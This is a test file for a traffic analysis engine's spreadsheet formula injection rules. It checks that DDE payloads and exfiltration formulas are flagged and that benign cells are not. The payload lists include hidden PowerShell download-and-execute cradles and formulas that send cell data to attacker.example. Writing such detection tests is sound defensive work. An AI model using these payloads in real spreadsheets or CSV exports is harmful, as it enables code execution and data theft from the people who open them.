import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { formulaInjectionPack } from '@/runtime/analyzer/engine/detection/rules/formula';
import { buildExchange } from '@/test/fixtures/traffic';

const ids = (value: string): number[] => inspectValue(new InspectedValue('body_json', 'firstName', value), [formulaInjectionPack]).map((r) => r.id);

describe('spreadsheet formula injection', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!E2",
    '+cmd|\'/c powershell -w hidden IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.77/p.ps1")\'!A1',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    // arguments quoting a string of their own
    "=cmd|' /C powershell -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.50/p.ps1')\"'!A0",
  ])('reads the DDE formula %s', (cell) => {
    expect(ids(cell)).toEqual([400126]);
  });

  it.each([
    '=HYPERLINK("http://attacker.example/leak?d="&C3&C4,"Click to view grades")',
    '=IMPORTXML(CONCAT("http://attacker.example/x?d=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://attacker.example/w?"&A1&B1)',
    '=IMAGE("https://attacker.example/px.png?u="&$A$1)',
  ])('reads the formula %s that sends cells out', (cell) => {
    expect(ids(cell)).toEqual([400127]);
  });

  it.each([
    '=SUM(A1:A3)',
    '=HYPERLINK("https://docs.example.com/guide","User guide")',
    '=IMAGE("https://cdn.example.com/logo.png")',
    '=A1*1.2&" EUR"',
    "Tom O'Brien | 'Sales' team! (EMEA)",
    'a || b',
    '-5 degrees (feels like -9)',
  ])('leaves %s alone', (cell) => {
    expect(ids(cell)).toEqual([]);
  });

  it('finds a DDE cell in an imported CSV body and leaves a calculating sheet alone', () => {
    const engine = createAnalysisEngine({ catalog: false });
    const classes = (csv: string) =>
      engine
        .analyze(buildExchange({ method: 'POST', target: '/api/contacts/import', requestHeaders: [['Content-Type', 'text/csv']], requestBody: csv }), {
          sensorId: 's',
          sensorTags: [],
        })
        .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
        .flatMap((e) => e.matches.map((m) => m.classification));
    expect(classes("first_name,last_name,email\nJohn,Smith,john@example.org\n=cmd|' /C calc'!A0,Doe,jane@example.org\n")).toContain('CommandInjection');
    expect(classes('item,qty,price,total\nWidget,2,3.50,=B2*C2\nGadget,1,10,=B3*C3\nTotal,,,=SUM(D2:D3)\n')).toEqual([]);
  });
});
